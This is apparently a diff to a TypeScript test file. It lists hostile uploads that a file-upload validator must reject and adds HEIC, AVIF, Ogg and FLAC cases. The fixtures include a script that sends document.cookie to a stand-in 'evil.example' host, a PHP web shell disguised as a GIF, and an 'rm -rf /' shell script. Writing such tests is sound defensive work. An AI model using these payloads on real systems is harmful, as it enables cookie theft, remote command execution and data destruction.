@@ -1,6 +1,7 @@
 import { randomBytes } from 'node:crypto';
 import { deflateSync, gzipSync } from 'node:zlib';
 import sharp from 'sharp';
+import { avifOf, box, heicOf } from '#test/heif-files.ts';
 import {
   mp3Of,
   pngChunk,
@@ -13,6 +14,7 @@ import {
   webmOf,
   webmTrack,
 } from '#test/media-files.ts';
+import { keptSound } from '#test/sounds/kept-sound.ts';
 
 export type FileContent = Uint8Array | string | Promise<Uint8Array>;
 /** A file that must not be taken, and what is said of it. */
@@ -21,7 +23,7 @@ export type HostileFile = [name: string, content: () => FileContent, reason: str
 export const svg = (inside = '') =>
   `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}<rect width="9" height="9"/></svg>`;
 export const script = '<script>fetch("https://evil.example/" + document.cookie)</script>';
-export const allowed = /^file must be a PNG, JPEG or WebP picture or a WAV, MP3 or WebM sound/;
+export const allowed = /^file must be a PNG, JPEG, WebP, HEIC or AVIF picture or a WAV, MP3, Ogg, FLAC or WebM sound/;
 const text = (latin1: string, zeros = 2000) => Buffer.concat([Buffer.from(latin1, 'latin1'), Buffer.alloc(zeros)]);
 export const hex = (digits: string, zeros = 2000) => Buffer.concat([Buffer.from(digits, 'hex'), Buffer.alloc(zeros)]);
 
@@ -42,7 +44,6 @@ export const wrongTypes: HostileFile[] = [
   ['a PHP file that begins as a GIF', () => 'GIF89a<?php system($_GET["c"]); ?>', /\(this is gif\)/],
   ['a GIF picture', () => sharp(pngOf(9, 9)).gif().toBuffer(), /\(this is gif\)/],
   ['a TIFF picture', () => sharp(pngOf(9, 9)).tiff().toBuffer(), /\(this is tif\)/],
-  ['an AVIF picture', () => sharp(pngOf(64, 64)).avif().toBuffer(), /\(this is avif\)/],
   ['a BMP picture', () => text('BM'), /\(this is bmp\)/],
   ['an icon', () => hex('00000100010010100000'), /\(this is ico\)/],
   ['a PDF document', () => text('%PDF-1.7\n'), /\(this is pdf\)/],
@@ -53,9 +54,13 @@ export const wrongTypes: HostileFile[] = [
   ['a program of Windows', () => text('MZ'), /\(this is exe\)/],
   ['a shell script', () => '#!/bin/sh\nrm -rf /\n', allowed],
   ['WebAssembly', () => hex('0061736d01000000'), /\(this is wasm\)/],
-  ['an Ogg sound', () => text('OggS\0\u0002'), /\(this is og[gx]\)/],
-  ['a FLAC sound', () => text('fLaC'), /\(this is flac\)/],
-  ['an AAC sound', () => hex('fff15080'), /\(this is aac\)/],
+  ['an Ogg file of nothing that is known', () => text('OggS\0\u0002'), /\(this is ogx\)/],
+  ['an AAC sound', () => hex('fff15080'), /\(this is AAC, which cannot be read here\)/],
+  [
+    'an m4a of a telephone',
+    () => keptSound('tone.m4a'),
+    /\(this is m4a, whose AAC or ALAC sound cannot be read here\)/,
+  ],
   ['an MPEG sound of layer II', () => mp3Of(4, [0xff, 0xfd, 0x90, 0xc0]), allowed],
   ['an MP4 film', () => text('\0\0\0\u0018ftypisom\0\0\u0002\0isomiso2'), /\(this is mp4\)/],
   ['an AVI film', () => text('RIFF\0\0\0\u0010AVI LIST'), /\(this is avi\)/],
@@ -92,7 +97,12 @@ const changed = async (whole: FileContent, at: number, bytes: number[]) => {
 };
 const png = (...chunks: Uint8Array[]) => Buffer.concat([pngSignature, ...chunks]);
 const broken = 'file must be a whole picture: this one is broken';
-const tooLarge = /^file must be a picture of at most 8,192 pixels a side and 40,000,000 pixels in all/;
+const tooLarge = /^file must be a picture of at most 16,384 pixels a side and (51|108),000,000 pixels in all/;
+
+const heic = (shape = {}) =>
+  heicOf({ columns: 2, tiles: ['red', 'green', 'blue', 'grey'], width: 128, height: 128, ...shape });
+const avif = () => avifOf({ primaries: 1, transfer: 13 });
+const moving = 'file must not be an animated picture (this is a sequence of pictures, HEIC or AVIF)';
 
 export const pictures: HostileFile[] = [
   ['a PNG that is nothing but its signature', () => pngSignature, /^file must be/],
@@ -130,12 +140,24 @@ export const pictures: HostileFile[] = [
   ['a decompression bomb of 8000 × 8000 in 64 KiB', () => pngOf(8000, 8000), tooLarge],
   ['a picture of 1 × 60000', () => pngOf(1, 60_000), tooLarge],
   ['a picture of 60000 × 1', () => pngOf(60_000, 1), tooLarge],
-  ['a picture with one pixel a side too much', () => pngOf(8193, 10), tooLarge],
+  ['a picture with one pixel a side too much', () => pngOf(16_385, 10), tooLarge],
   [
     'an animated PNG',
     () => png(pngHeader(9, 9), apngControl, pixels(90), pngChunk('IEND')),
     'file must not be an animated picture',
   ],
+  ['a HEIC that is nothing but its beginning', () => heic().subarray(0, 40), broken],
+  ['a HEIC whose last tile is cut', () => part(heic(), 0.99), 'file must be a whole picture: this one ends too early'],
+  ['a HEIC whose tiles are noise', () => Buffer.concat([heic().subarray(0, -110), randomBytes(110)]), broken],
+  ['a HEIC whose index is noise', () => changed(heic(), 60, [...randomBytes(300)]), /^file must be/],
+  ['a HEIC that says it has 60000 × 60000 pixels', () => heic({ width: 60_000, height: 60_000 }), tooLarge],
+  ['a HEIC of more than its tiles hold', () => heic({ width: 5000, height: 5000 }), broken],
+  ['a HEIC with a JPEG inside', () => heic({ codec: 'jpeg' }), /\(this is a HEIF picture of the kind jpeg\)/],
+  ['a sequence of HEIC pictures', () => heic({ brand: 'hevc' }), moving],
+  ['a HEIF file with a film beside its picture', () => heic({ beside: box('moov', Buffer.alloc(8)) }), moving],
+  ['a sequence of AVIF pictures', () => changed(avif(), 8, [...Buffer.from('avis')]), moving],
+  ['an AVIF that ends in the middle', () => part(avif(), 0.95), 'file must be a whole picture: this one'],
+  ['an AVIF whose pixels are noise', () => Buffer.concat([avif().subarray(0, -30), randomBytes(30)]), broken],
   ['an animated WebP', () => webp(3), 'file must not be an animated picture'],
   ['a JPEG that is nothing but its beginning', () => Buffer.from('ffd8ffe0', 'hex'), broken],
   ['a JPEG that ends in the middle', () => part(jpeg(), 0.8), broken],
@@ -154,6 +176,10 @@ export const pictures: HostileFile[] = [
   ],
 ];
 
+const noisy = async (name: string, from: number) => {
+  const bytes = await keptSound(name);
+  return Buffer.concat([bytes.subarray(0, from), Buffer.alloc(bytes.length - from, 0x5a)]);
+};
 const wave = (data: Uint8Array, shape = {}, size?: number) => riff(['fmt ', wavFormat(shape)], ['data', data, size]);
 const floats = (...values: number[]) => Buffer.from(new Float32Array([...Array(400).fill(0), ...values]).buffer);
 const brokenSound = 'file must be a whole sound: this one';
@@ -175,11 +201,6 @@ export const sounds: HostileFile[] = [
   ],
   ['a WAV that ends in the middle', () => part(wavOf(1), 0.5), `${brokenSound} is shorter than it says`],
   [
-    'a WAV that says it has 4 GiB',
-    () => wave(Buffer.alloc(800), {}, 0xffffffff),
-    `${brokenSound} is shorter than it says`,
-  ],
-  [
     'a WAV that does not say how it is written',
     () => riff(['data', Buffer.alloc(800)]),
     `${brokenSound} does not say how`,
@@ -195,11 +216,11 @@ export const sounds: HostileFile[] = [
     `${brokenSound} does not say how`,
   ],
   [
-    'a WAV with six channels',
-    () => wave(Buffer.alloc(1200), { channels: 6 }),
-    'file must be a sound of one or two channels (this has 6)',
+    'a WAV with nine channels',
+    () => wave(Buffer.alloc(1800), { channels: 9 }),
+    'file must be a sound of 1 to 8 channels (this has 9)',
   ],
-  ['a WAV without a channel', () => wave(Buffer.alloc(1200), { channels: 0 }), 'one or two channels (this has 0)'],
+  ['a WAV without a channel', () => wave(Buffer.alloc(1200), { channels: 0 }), '1 to 8 channels (this has 0)'],
   [
     'a WAV of one sample a second',
     () => wave(Buffer.alloc(800), { rate: 1 }),
@@ -215,17 +236,12 @@ export const sounds: HostileFile[] = [
     () => wave(Buffer.alloc(1200), { bits: 12 }),
     'file must be a WAV of PCM with 8, 16, 24 or 32 bits',
   ],
-  [
-    'a WAV of ADPCM',
-    () => wave(Buffer.alloc(1200), { format: 2 }),
-    'file must be a WAV of PCM with 8, 16, 24 or 32 bits',
-  ],
+  ['a WAV of ADPCM', () => keptSound('adpcm.wav'), '(this is IMA ADPCM)'],
   [
     'a WAV that contradicts itself',
     () => wave(Buffer.alloc(1200), { bytesPerFrame: 7 }),
     `${brokenSound} contradicts itself`,
   ],
-  ['a WAV that ends within a sample', () => wave(Buffer.alloc(801)), `${brokenSound} ends within a sample`],
   [
     'a WAV that is too long',
     () => wave(Buffer.alloc(8000 * maxSoundSeconds + 1, 128), { bits: 8 }),
@@ -267,9 +283,14 @@ export const sounds: HostileFile[] = [
     'file must have sound: this WebM has no sound',
   ],
   [
-    'a WebM with the sound of another codec',
-    () => webmTrack(2, 'A_VORBIS', [Buffer.alloc(40)]),
-    /^file must be a W?e?b?M?.*/,
+    'a WebM of a codec that it cannot have',
+    () => webmTrack(2, 'A_AAC', [Buffer.alloc(40)]),
+    'this has another codec (aac)',
   ],
+  ['a WebM of Vorbis without its headers', () => webmTrack(2, 'A_VORBIS', [Buffer.alloc(40)]), brokenSound],
+  ['an Ogg that ends within a page', () => part(keptSound('vorbis.ogg'), 0.8), `${brokenSound} ends too early`],
+  ['an Ogg whose pages are noise', () => noisy('vorbis.ogg', 600), brokenSound],
+  ['a FLAC that ends in the middle', () => part(keptSound('tone.flac'), 0.6), brokenSound],
+  ['a FLAC that is nothing but its beginning', () => text('fLaC'), brokenSound],
   ['a WebM whose blocks are broken', () => webmTrack(2, 'A_OPUS', [Buffer.from('ff00', 'hex')]), brokenSound],
 ];
